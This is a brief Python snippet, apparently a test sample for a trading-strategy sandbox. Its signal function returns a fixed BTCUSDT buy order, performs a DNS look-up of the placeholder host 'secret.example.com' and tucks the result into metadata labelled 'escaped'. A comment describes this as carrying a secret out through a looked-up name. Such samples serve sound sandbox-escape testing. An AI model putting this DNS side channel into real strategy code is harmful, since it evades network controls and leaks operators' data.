# A look-up of a name carries a secret out in the name.
import socket


def generate_signals(data, parameters):
    found = socket.getaddrinfo("secret.example.com", 443)
    return [{"symbol": "BTCUSDT", "action": "BUY", "metadata": {"escaped": str(found)[:100]}}]
